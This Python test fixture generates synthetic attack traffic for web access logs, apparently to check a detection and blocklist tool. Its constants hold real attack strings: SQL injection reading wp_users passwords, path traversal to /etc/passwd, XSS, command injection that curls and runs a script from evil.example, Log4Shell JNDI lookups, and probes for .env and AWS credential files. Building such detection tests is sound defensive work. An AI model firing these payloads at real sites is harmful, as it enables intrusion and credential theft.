"""Attackers: each an address of its own that does one thing, long enough, within one day."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from random import Random
from urllib.parse import quote

from tests.traffic import clock
from tests.traffic.access_log import AccessLog, Event
from tests.traffic.agents import CHROME, NIKTO, NUCLEI, SQLMAP, Agent
from tests.traffic.places import UNKNOWN, lair
from tests.traffic.requests import SHOP, WWW, Client, Request
from tests.traffic.site import PAGES
from tests.traffic.writing import Arrival

SQL = ("1' UNION SELECT user_login,user_pass FROM wp_users-- -", "1' OR '1'='1' -- ", "1 AND SLEEP(5)")
TRAVERSAL = ("../../../../etc/passwd", "../../../../../windows/win.ini", "..%2f..%2f..%2f..%2fetc%2fpasswd")
SCRIPTS = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(document.cookie)>")
COMMANDS = (";cat /tmp/x;id", "x;wget http://evil.example/x.sh", "$(curl http://evil.example/x.sh|sh)")
LOOKUPS = ("${jndi:ldap://evil.example/a}", "${jndi:${lower:l}dap://evil.example/a}")
SECRETS = [
    *(f"/{folder}.env{copy}" for folder in ("", "api/", "app/") for copy in ("", ".local", ".production", ".old")),
    *("/.git/config", "/.git/HEAD", "/.svn/entries", "/.aws/credentials", "/.htpasswd", "/.bash_history"),
    *("/wp-config.php.bak", "/dump.sql"),
]


@dataclass(frozen=True)
class Attack:
    """What one attacker does: `count` requests, the nth of them `target(n)`, `pace` seconds apart."""

    scenario: str
    count: int
    pace: float
    target: Callable[[int], str]
    statuses: tuple[int, ...] = (200,)
    agent: Agent = CHROME
    vhost: str = WWW
    method: str = "GET"
    over_ipv6: bool = False
    besides: tuple[tuple[str, int], ...] = ()  # what else sees it, and how many of the requests

    @property
    def outcome(self) -> str:
        refused = all(status in (401, 403, 404, 429) or status >= 500 for status in self.statuses)
        return "blocked" if refused else "attempted"

    @property
    def seen(self) -> tuple[tuple[str, int], ...]:
        return ((self.scenario, self.count), *self.besides)


def _query(path: str, payloads: tuple[str, ...]) -> Callable[[int], str]:
    return lambda n: f"{path}{quote(payloads[n % len(payloads)], safe='%')}&n={n}"


def _own_page(n: int) -> str:
    return PAGES[n % 7].path


def _login(_: int) -> str:
    return "/wp-login.php"


MIXED, REFUSED = (200, 403), (403,)
SLOW_TOO = (("login-slow", 40),)
SCANS = (("path-scan", len(SECRETS)), ("slow-probing", len(SECRETS) - 1))
ATTACKS = [
    Attack("login-bruteforce", 40, 2.5, _login, method="POST", besides=SLOW_TOO),
    Attack("login-bruteforce", 40, 2.5, _login, method="POST", vhost=SHOP, over_ipv6=True, besides=SLOW_TOO),
    Attack("path-scan", 60, 1, lambda n: f"/section-{n:02}/", (404,)),
    Attack("sql-injection", 20, 2, _query("/product?id=", SQL), MIXED, vhost=SHOP),
    Attack("sql-injection", 20, 2, _query("/product?id=", SQL), REFUSED),
    Attack("path-traversal", 20, 2, _query("/download?file=", TRAVERSAL), MIXED),
    Attack("cross-site-scripting", 20, 2, _query("/search?q=", SCRIPTS), MIXED),
    Attack("command-injection", 20, 2, _query("/ping?host=", COMMANDS), MIXED),
    Attack("exploit-scan", 6, 3, _query("/search?q=", LOOKUPS)),
    Attack("secret-files", len(SECRETS), 2, lambda n: SECRETS[n], REFUSED, besides=SCANS),
    Attack("scanner-agent", 30, 3, _own_page, agent=SQLMAP),
    Attack("scanner-agent", 30, 3, _own_page, agent=NIKTO, vhost=SHOP),
    Attack("scanner-agent", 30, 3, _own_page, agent=NUCLEI),
    Attack("request-flood", 2000, 0.05, lambda n: f"/search?q={n}"),
]
MOST_AT_ONCE = 25  # times all attacks, so that each attacker keeps a /24 to itself


def attackers(log: AccessLog, random: Random, mornings: list[int], scale: float) -> Iterator[Arrival]:
    """All attacks, spread over the days, none near midnight."""
    times = min(max(1, round(scale)), MOST_AT_ONCE)
    for number, attack in enumerate(ATTACKS * times):
        start = mornings[number % len(mornings)] + random.randrange(8 * 3600)
        address, country = lair(number)
        target = address
        if attack.over_ipv6:
            network, country = f"2001:db8:bad:{number:x}::", UNKNOWN
            address, target = f"{network}66", f"{network}/64"  # a ban is of the whole subnet
        for scenario, _ in attack.seen:
            log.truth.blocklist.append({"target": target, "scenario": scenario})
        client = Client(address, country, attack.agent, "attack")
        yield start, _attack(log, client, attack, start)


def _attack(log: AccessLog, client: Client, attack: Attack, start: int) -> Iterator[Event]:
    for scenario, hits in attack.seen:
        key = (clock.day_of(start), attack.vhost, scenario, attack.outcome, client.country)
        log.truth.add("attacks_daily", key, addresses=1, alerts=1, hits=hits)
    for n in range(attack.count):
        status = attack.statuses[n % len(attack.statuses)]
        at = start + int(n * attack.pace)
        yield log.write(client, Request(at, attack.target(n), attack.vhost, attack.method, status))
